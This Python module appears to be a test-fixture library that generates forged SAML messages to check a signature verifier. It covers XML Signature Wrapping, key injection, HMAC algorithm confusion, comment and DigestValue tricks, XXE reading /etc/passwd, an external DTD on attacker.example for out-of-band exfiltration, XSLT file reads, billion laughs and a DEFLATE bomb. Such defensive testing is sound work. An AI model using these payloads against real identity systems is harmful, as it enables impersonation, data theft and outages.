"""Attack payloads against signed SAML XML, generated from the published attack descriptions.

Every generator takes a validly signed SAML message (bytes) and returns the attacked variant
(bytes; `deflate_bomb` returns the Redirect-binding parameter value as str). Where an attack
needs a valid-looking signature the message is re-signed by this module's own small signer,
written independently of `kernel.xml._dsig`, with the attacker's key unless a key is given
(pass the real signer's key to prove that a refusal comes from the rule, not from the key).

Forged content always contains `EVIL_MARKER`, so tests can assert it is never returned.
"""
from __future__ import annotations

import base64
import copy
import hashlib
import hmac
import secrets
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from functools import lru_cache

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.types import PrivateKeyTypes, PublicKeyTypes
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import NameOID
from lxml import etree

SAML_NS = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP_NS = "urn:oasis:names:tc:SAML:2.0:protocol"
DS_NS = "http://www.w3.org/2000/09/xmldsig#"

EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
XPATH_TRANSFORM = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
ECDSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
HMAC_SHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"

EVIL_MARKER = "attacker.example"
EVIL_NAME_ID = "admin@attacker.example"
EVIL_URL = "https://attacker.example/acs"

_HASHES = {SHA1: hashlib.sha1, SHA256: hashlib.sha256}
_SIGNATURE = f"{{{DS_NS}}}Signature"
_ISSUER = f"{{{SAML_NS}}}Issuer"
_NAME_ID = f"{{{SAML_NS}}}NameID"
_ASSERTION = f"{{{SAML_NS}}}Assertion"

Forger = Callable[[etree._Element], None]


# -- keys ------------------------------------------------------------------------------------
def make_key_and_certificate(
    common_name: str = "attacker", *, kind: str = "rsa"
) -> tuple[PrivateKeyTypes, x509.Certificate]:
    """A fresh key pair ("rsa" 2048 or "ec" P-256) with a self-signed certificate."""
    if kind == "rsa":
        key: PrivateKeyTypes = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    else:
        key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(minutes=5))
        .not_valid_after(now + timedelta(days=30))
        .sign(key, hashes.SHA256())
    )
    return key, certificate


@lru_cache(maxsize=1)
def attacker_key() -> tuple[PrivateKeyTypes, x509.Certificate]:
    """The attacker's own key pair, shared by all generators of one test run."""
    return make_key_and_certificate("attacker.example")


# -- tree helpers ----------------------------------------------------------------------------
def _parse(signed: bytes) -> etree._Element:
    # Inputs are our own fixtures, but there is no reason to resolve anything here either.
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    return etree.fromstring(signed, parser)


def _serialize(root: etree._Element) -> bytes:
    return etree.tostring(root)


def _ds(name: str) -> str:
    return f"{{{DS_NS}}}{name}"


def _fresh_id() -> str:
    return "_evil" + secrets.token_hex(8)


def _remove_keep_tail(node: etree._Element) -> None:
    """Remove ``node`` but keep the text after it, as the enveloped transform does."""
    parent = node.getparent()
    if node.tail:
        previous = node.getprevious()
        if previous is not None:
            previous.tail = (previous.tail or "") + node.tail
        else:
            parent.text = (parent.text or "") + node.tail
    parent.remove(node)


def _without_signature(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    clone.tail = None
    signature = clone.find(_SIGNATURE)
    if signature is not None:
        _remove_keep_tail(signature)
    return clone


def _signed_element(root: etree._Element) -> etree._Element:
    """The first element, in document order, that carries an enveloped ds:Signature."""
    for element in root.iter(etree.Element):
        if element.find(_SIGNATURE) is not None:
            return element
    raise ValueError("the message carries no enveloped signature")


def _signed_assertion(root: etree._Element) -> etree._Element:
    for assertion in root.iter(_ASSERTION):
        if assertion.find(_SIGNATURE) is not None:
            return assertion
    raise ValueError("the message carries no signed saml:Assertion")


def _after_issuer_index(element: etree._Element) -> int:
    issuer = element.find(_ISSUER)
    return 0 if issuer is None else element.index(issuer) + 1


def forge_identity(element: etree._Element) -> None:
    """The default forgery: become the attacker (NameID) or redirect the answer (ACS URL)."""
    changed = False
    for name_id in element.iter(_NAME_ID):
        name_id.text = EVIL_NAME_ID
        changed = True
    for attribute in ("AssertionConsumerServiceURL", "Destination", "Recipient"):
        for node in element.iter(etree.Element):
            if node.get(attribute) is not None:
                node.set(attribute, EVIL_URL)
                changed = True
    if not changed:
        element.set("Consent", EVIL_URL)


# -- an independent, deliberately permissive XML-Signature signer ----------------------------
def _exc_c14n(element: etree._Element) -> bytes:
    return etree.tostring(element, method="c14n", exclusive=True, with_comments=False)


def _raw_sign(key: PrivateKeyTypes | bytes, algorithm: str, data: bytes) -> bytes:
    if algorithm in (HMAC_SHA1, HMAC_SHA256):
        assert isinstance(key, bytes)
        digestmod = hashlib.sha1 if algorithm == HMAC_SHA1 else hashlib.sha256
        return hmac.new(key, data, digestmod).digest()
    if isinstance(key, rsa.RSAPrivateKey):
        hash_algorithm = hashes.SHA1() if algorithm == RSA_SHA1 else hashes.SHA256()
        return key.sign(data, padding.PKCS1v15(), hash_algorithm)
    assert isinstance(key, ec.EllipticCurvePrivateKey)
    r, s = decode_dss_signature(key.sign(data, ec.ECDSA(hashes.SHA256())))
    size = (key.curve.key_size + 7) // 8
    return r.to_bytes(size, "big") + s.to_bytes(size, "big")


def signed_info_for(
    element: etree._Element,
    *,
    signature_method: str = RSA_SHA256,
    digest_method: str = SHA256,
    reference_uri: str | None = None,
    extra_transforms: tuple[etree._Element, ...] = (),
) -> etree._Element:
    """A ds:SignedInfo whose digest covers ``element`` as it is now (minus its signature)."""
    body = _without_signature(element)
    digest = base64.b64encode(_HASHES[digest_method](_exc_c14n(body)).digest()).decode()
    signed_info = etree.Element(_ds("SignedInfo"), nsmap={"ds": DS_NS})
    etree.SubElement(signed_info, _ds("CanonicalizationMethod"), Algorithm=EXC_C14N)
    etree.SubElement(signed_info, _ds("SignatureMethod"), Algorithm=signature_method)
    uri = reference_uri if reference_uri is not None else "#" + element.get("ID", "")
    reference = etree.SubElement(signed_info, _ds("Reference"), URI=uri)
    transforms = etree.SubElement(reference, _ds("Transforms"))
    for transform in extra_transforms:
        transforms.append(transform)
    etree.SubElement(transforms, _ds("Transform"), Algorithm=ENVELOPED)
    etree.SubElement(transforms, _ds("Transform"), Algorithm=EXC_C14N)
    etree.SubElement(reference, _ds("DigestMethod"), Algorithm=digest_method)
    etree.SubElement(reference, _ds("DigestValue")).text = digest
    return signed_info


def resign(
    element: etree._Element,
    key: PrivateKeyTypes | bytes,
    *,
    signature_method: str = RSA_SHA256,
    digest_method: str = SHA256,
    reference_uri: str | None = None,
    extra_transforms: tuple[etree._Element, ...] = (),
    certificate: x509.Certificate | None = None,
) -> None:
    """Replace ``element``'s enveloped signature with one made by ``key`` (bytes for HMAC).

    Unknown transforms are written into SignedInfo but not applied to the digest, which is
    what an attacker hopes a lax verifier will accept.
    """
    old = element.find(_SIGNATURE)
    if old is not None:
        _remove_keep_tail(old)
    signed_info = signed_info_for(
        element,
        signature_method=signature_method,
        digest_method=digest_method,
        reference_uri=reference_uri,
        extra_transforms=extra_transforms,
    )
    signature = etree.Element(_SIGNATURE, nsmap={"ds": DS_NS})
    signature.append(signed_info)
    value = etree.SubElement(signature, _ds("SignatureValue"))
    if certificate is not None:
        key_info = etree.SubElement(signature, _ds("KeyInfo"))
        x509_data = etree.SubElement(key_info, _ds("X509Data"))
        der = certificate.public_bytes(serialization.Encoding.DER)
        etree.SubElement(x509_data, _ds("X509Certificate")).text = base64.b64encode(der).decode()
    element.insert(_after_issuer_index(element), signature)
    octets = _exc_c14n(signature.find(_ds("SignedInfo")))
    value.text = base64.b64encode(_raw_sign(key, signature_method, octets)).decode()


# -- XML Signature Wrapping (Somorovsky et al., "On Breaking SAML", USENIX Security 2012) ----
def xsw1(signed: bytes, *, new_id: bool = True, forge: Forger = forge_identity) -> bytes:
    """XSW1: a forged root message; the original signed message hides in the Signature's
    ds:Object, where an ID-based reference lookup still finds it."""
    root = _parse(signed)
    signature = root.find(_SIGNATURE)
    if signature is None:
        raise ValueError("XSW1 needs a signed root message")
    original = _without_signature(root)
    forge(root)
    if new_id:
        root.set("ID", _fresh_id())
    etree.SubElement(signature, _ds("Object")).append(original)
    return _serialize(root)


def xsw2(signed: bytes, *, new_id: bool = True, forge: Forger = forge_identity) -> bytes:
    """XSW2: like XSW1, but the original message is a detached sibling just before the
    Signature inside the forged root."""
    root = _parse(signed)
    signature = root.find(_SIGNATURE)
    if signature is None:
        raise ValueError("XSW2 needs a signed root message")
    original = _without_signature(root)
    forge(root)
    if new_id:
        root.set("ID", _fresh_id())
    signature.addprevious(original)
    return _serialize(root)


def xsw3(signed: bytes, *, new_id: bool = True, forge: Forger = forge_identity) -> bytes:
    """XSW3: an unsigned forged copy of the signed Assertion inserted before it."""
    root = _parse(signed)
    assertion = _signed_assertion(root)
    evil = _without_signature(assertion)
    forge(evil)
    if new_id:
        evil.set("ID", _fresh_id())
    assertion.addprevious(evil)
    return _serialize(root)


def xsw4(signed: bytes, *, new_id: bool = True, forge: Forger = forge_identity) -> bytes:
    """XSW4: an unsigned forged Assertion that wraps the original signed Assertion."""
    root = _parse(signed)
    assertion = _signed_assertion(root)
    evil = _without_signature(assertion)
    forge(evil)
    if new_id:
        evil.set("ID", _fresh_id())
    assertion.addprevious(evil)
    evil.append(assertion)
    return _serialize(root)


def xsw5(signed: bytes, *, new_id: bool = False, forge: Forger = forge_identity) -> bytes:
    """XSW5: the signed Assertion is altered in place (keeping its Signature) and an unsigned
    copy of the original is appended at the end of the message."""
    root = _parse(signed)
    assertion = _signed_assertion(root)
    original = _without_signature(assertion)
    forge(assertion)
    if new_id:
        assertion.set("ID", _fresh_id())
    root.append(original)
    return _serialize(root)


def xsw6(signed: bytes, *, new_id: bool = False, forge: Forger = forge_identity) -> bytes:
    """XSW6: the signed Assertion is altered in place and an unsigned copy of the original
    is placed inside its Signature, after the signature value."""
    root = _parse(signed)
    assertion = _signed_assertion(root)
    original = _without_signature(assertion)
    forge(assertion)
    if new_id:
        assertion.set("ID", _fresh_id())
    assertion.find(_SIGNATURE).append(original)
    return _serialize(root)


def xsw7(signed: bytes, *, new_id: bool = True, forge: Forger = forge_identity) -> bytes:
    """XSW7: the original signed Assertion is parked in a samlp:Extensions block (schema-valid
    lax content) and an unsigned forged Assertion takes its place."""
    root = _parse(signed)
    assertion = _signed_assertion(root)
    evil = _without_signature(assertion)
    forge(evil)
    if new_id:
        evil.set("ID", _fresh_id())
    assertion.addprevious(evil)
    extensions = etree.Element(f"{{{SAMLP_NS}}}Extensions")
    signature = root.find(_SIGNATURE)
    anchor = signature if signature is not None else root.find(_ISSUER)
    root.insert(0 if anchor is None else root.index(anchor) + 1, extensions)
    extensions.append(assertion)
    return _serialize(root)


def xsw8(signed: bytes, *, new_id: bool = False, forge: Forger = forge_identity) -> bytes:
    """XSW8: the signed Assertion is altered in place; an unsigned copy of the original sits
    in a ds:Object inside its Signature."""
    root = _parse(signed)
    assertion = _signed_assertion(root)
    original = _without_signature(assertion)
    forge(assertion)
    if new_id:
        assertion.set("ID", _fresh_id())
    etree.SubElement(assertion.find(_SIGNATURE), _ds("Object")).append(original)
    return _serialize(root)


XSW: dict[str, Callable[..., bytes]] = {
    "xsw1": xsw1,
    "xsw2": xsw2,
    "xsw3": xsw3,
    "xsw4": xsw4,
    "xsw5": xsw5,
    "xsw6": xsw6,
    "xsw7": xsw7,
    "xsw8": xsw8,
}


# -- signature and key attacks ---------------------------------------------------------------
def strip_signatures(signed: bytes, *, forge: Forger = forge_identity) -> bytes:
    """Signature stripping: remove every ds:Signature, then forge freely."""
    root = _parse(signed)
    target = _signed_element(root)
    for signature in list(root.iter(_SIGNATURE)):
        _remove_keep_tail(signature)
    forge(target)
    return _serialize(root)


def key_injection(
    signed: bytes,
    *,
    key: PrivateKeyTypes | None = None,
    certificate: x509.Certificate | None = None,
    forge: Forger = forge_identity,
) -> bytes:
    """Key injection (pysaml2 CVE-2021-21239): forge, sign with the attacker's key and ship
    the attacker's certificate in KeyInfo for a verifier that trusts it."""
    if key is None:
        key, certificate = attacker_key()
    root = _parse(signed)
    target = _signed_element(root)
    forge(target)
    resign(target, key, certificate=certificate)
    return _serialize(root)


def public_key_pem(public_key: PublicKeyTypes) -> bytes:
    return public_key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def hmac_with_public_key(
    signed: bytes,
    public_key: PublicKeyTypes,
    *,
    algorithm: str = HMAC_SHA256,
    forge: Forger = forge_identity,
) -> bytes:
    """Algorithm confusion (xml-crypto CVE-2024-32962 family): an HMAC SignatureMethod keyed
    with the signer's public key, which every verifier and attacker knows."""
    root = _parse(signed)
    target = _signed_element(root)
    forge(target)
    resign(target, public_key_pem(public_key), signature_method=algorithm)
    return _serialize(root)


def sha1_signature(
    signed: bytes, *, key: PrivateKeyTypes | None = None, forge: Forger = forge_identity
) -> bytes:
    """RSA-SHA1 SignatureMethod with a SHA-1 digest (collision-prone, never accepted)."""
    root = _parse(signed)
    target = _signed_element(root)
    forge(target)
    resign(
        target, key or attacker_key()[0], signature_method=RSA_SHA1, digest_method=SHA1
    )
    return _serialize(root)


def sha1_digest(
    signed: bytes, *, key: PrivateKeyTypes | None = None, forge: Forger = forge_identity
) -> bytes:
    """RSA-SHA256 SignatureMethod over a Reference whose DigestMethod is SHA-1."""
    root = _parse(signed)
    target = _signed_element(root)
    forge(target)
    resign(target, key or attacker_key()[0], digest_method=SHA1)
    return _serialize(root)


# -- parser-differential and lookup attacks --------------------------------------------------
def comment_in_name_id(signed: bytes, *, split_at: int | None = None) -> bytes:
    """CVE-2017-11427 and friends: ``victim<!---->.evil`` after signing. Exclusive c14n
    drops the comment, so the signature stays valid; a reader of the first text node sees
    only ``victim``. Splits before the last dot unless ``split_at`` is given."""
    root = _parse(signed)
    name_id = next(root.iter(_NAME_ID))
    text = name_id.text or ""
    position = split_at if split_at is not None else max(text.rfind("."), 1)
    name_id.text = text[:position]
    comment = etree.Comment("")
    comment.tail = text[position:]
    name_id.append(comment)
    return _serialize(root)


def _forged_digest(target: etree._Element, forge: Forger) -> str:
    forge(target)
    body = _without_signature(target)
    return base64.b64encode(hashlib.sha256(_exc_c14n(body)).digest()).decode()


def second_digest_value(signed: bytes, *, forge: Forger = forge_identity) -> bytes:
    """ruby-saml CVE-2024-45409: forge, then plant a DigestValue matching the forged content
    outside SignedInfo (in samlp:Extensions) for an absolute ``//ds:DigestValue`` lookup."""
    root = _parse(signed)
    target = _signed_element(root)
    digest = _forged_digest(target, forge)
    extensions = etree.Element(f"{{{SAMLP_NS}}}Extensions")
    etree.SubElement(extensions, _ds("DigestValue"), nsmap={"ds": DS_NS}).text = digest
    signature = root.find(_SIGNATURE)
    anchor = signature if signature is not None else root.find(_ISSUER)
    root.insert(0 if anchor is None else root.index(anchor) + 1, extensions)
    return _serialize(root)


def second_signed_info(
    signed: bytes, *, before: bool = True, forge: Forger = forge_identity
) -> bytes:
    """xml-crypto CVE-2025-29774: a second SignedInfo (digest of the forged content) beside
    the genuine one, hoping the verifier checks one and trusts the other."""
    root = _parse(signed)
    target = _signed_element(root)
    signature = target.find(_SIGNATURE)
    genuine = signature.find(_ds("SignedInfo"))
    forged = copy.deepcopy(genuine)
    forged.tail = None
    forged.find(f"{_ds('Reference')}/{_ds('DigestValue')}").text = _forged_digest(target, forge)
    if before:
        genuine.addprevious(forged)
    else:
        genuine.addnext(forged)
    return _serialize(root)


def comment_in_digest_value(signed: bytes, *, forge: Forger = forge_identity) -> bytes:
    """xml-crypto CVE-2025-29775: the forged digest hides in a comment at the start of
    DigestValue; c14n drops it so SignatureValue still verifies, a first-child reader
    compares against it."""
    root = _parse(signed)
    target = _signed_element(root)
    digest_value = target.find(
        f"{_SIGNATURE}/{_ds('SignedInfo')}/{_ds('Reference')}/{_ds('DigestValue')}"
    )
    genuine = digest_value.text
    digest_value.text = None
    comment = etree.Comment(_forged_digest(target, forge))
    comment.tail = genuine
    digest_value.append(comment)
    return _serialize(root)


# -- DTD attacks (pysaml2 CVE-2016-10149; ruby-saml CVE-2025-25291/25292) -------------------
_PLACEHOLDER = "XMLATTACKENTITYPLACEHOLDER"


def _with_doctype(signed: bytes, doctype: str, entity: str | None, encoding: str) -> bytes:
    root = _parse(signed)
    if entity is not None:
        fields = list(root.iter(_NAME_ID)) or list(root.iter(_ISSUER)) or [root]
        fields[0].text = _PLACEHOLDER
    text = etree.tostring(root, encoding="unicode").replace(_PLACEHOLDER, f"&{entity};")
    declaration = f'<?xml version="1.0" encoding="{encoding}"?>\n'
    return (declaration + doctype + "\n" + text).encode(encoding)


def billion_laughs(signed: bytes, *, encoding: str = "utf-8") -> bytes:
    """Internal entity expansion (billion laughs) inside NameID."""
    root_name = _parse(signed).tag.rpartition("}")[2]
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ]
    doctype = f"<!DOCTYPE {root_name} [\n" + "\n".join(entities) + "\n]>"
    return _with_doctype(signed, doctype, "lol9", encoding)


def external_entity(
    signed: bytes, *, system_id: str = "file:///etc/passwd", encoding: str = "utf-8"
) -> bytes:
    """XXE: an external entity (a local file by default) referenced from NameID."""
    root_name = _parse(signed).tag.rpartition("}")[2]
    doctype = f'<!DOCTYPE {root_name} [\n<!ENTITY xxe SYSTEM "{system_id}">\n]>'
    return _with_doctype(signed, doctype, "xxe", encoding)


def external_dtd(
    signed: bytes, *, system_id: str = "http://attacker.example/evil.dtd", encoding: str = "utf-8"
) -> bytes:
    """An external DTD subset (out-of-band exfiltration through parameter entities)."""
    root_name = _parse(signed).tag.rpartition("}")[2]
    return _with_doctype(signed, f'<!DOCTYPE {root_name} SYSTEM "{system_id}">', None, encoding)


# -- transform and reference attacks (Hill 2007; xmlsec CVE-2011-1425) ---------------------
def _transform(algorithm: str, body: str) -> etree._Element:
    return etree.fromstring(
        f'<ds:Transform xmlns:ds="{DS_NS}" Algorithm="{algorithm}">{body}</ds:Transform>'
    )


def xslt_transform(
    signed: bytes, *, key: PrivateKeyTypes | None = None, forge: Forger = forge_identity
) -> bytes:
    """An XSLT transform in the Reference: arbitrary computation (and file reads through
    ``document()``) run by the verifier before anything is authenticated."""
    stylesheet = (
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        '<xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/>'
        "</xsl:template></xsl:stylesheet>"
    )
    root = _parse(signed)
    target = _signed_element(root)
    forge(target)
    resign(
        target,
        key or attacker_key()[0],
        extra_transforms=(_transform(XSLT_TRANSFORM, stylesheet),),
    )
    return _serialize(root)


def xpath_transform(
    signed: bytes, *, key: PrivateKeyTypes | None = None, forge: Forger = forge_identity
) -> bytes:
    """An XPath filter transform that excludes the identity fields from the digest."""
    root = _parse(signed)
    target = _signed_element(root)
    forge(target)
    xpath = f'<ds:XPath xmlns:saml="{SAML_NS}">not(ancestor-or-self::saml:NameID)</ds:XPath>'
    resign(
        target,
        key or attacker_key()[0],
        extra_transforms=(_transform(XPATH_TRANSFORM, xpath),),
    )
    return _serialize(root)


def external_reference(
    signed: bytes,
    *,
    uri: str = "file:///etc/passwd",
    key: PrivateKeyTypes | None = None,
    forge: Forger = forge_identity,
) -> bytes:
    """A Reference to an external URI instead of the same-document ``#ID``."""
    root = _parse(signed)
    target = _signed_element(root)
    forge(target)
    resign(target, key or attacker_key()[0], reference_uri=uri)
    return _serialize(root)


def duplicate_id(signed: bytes, *, attribute: str = "ID") -> bytes:
    """Another element carrying the signed element's ID (as ``ID``, ``Id`` or ``id``), so an
    ID lookup may resolve the Reference to a different element than the one read."""
    root = _parse(signed)
    target = _signed_element(root)
    decoy = etree.Element("{urn:attacker.example}Decoy", nsmap={"evil": "urn:attacker.example"})
    decoy.set(attribute, target.get("ID"))
    decoy.text = EVIL_NAME_ID
    extensions = etree.Element(f"{{{SAMLP_NS}}}Extensions")
    extensions.append(decoy)
    signature = root.find(_SIGNATURE)
    anchor = signature if signature is not None else root.find(_ISSUER)
    root.insert(0 if anchor is None else root.index(anchor) + 1, extensions)
    return _serialize(root)


# -- HTTP-Redirect binding -------------------------------------------------------------------
def deflate_bomb(*, inflated_size: int = 256 * 1024 * 1024) -> str:
    """A SAMLRequest value whose raw DEFLATE stream inflates to ``inflated_size`` bytes of an
    (unfinished) AuthnRequest: tiny on the wire, huge in memory (pysaml2 CVE-2016-10127)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = f'<samlp:AuthnRequest xmlns:samlp="{SAMLP_NS}" ID="_bomb" Version="2.0">'.encode()
    parts = [compressor.compress(head)]
    chunk = b" " * (1024 * 1024)
    remaining = inflated_size - len(head)
    while remaining > 0:
        parts.append(compressor.compress(chunk[: min(remaining, len(chunk))]))
        remaining -= len(chunk)
    parts.append(compressor.flush())
    return base64.b64encode(b"".join(parts)).decode("ascii")
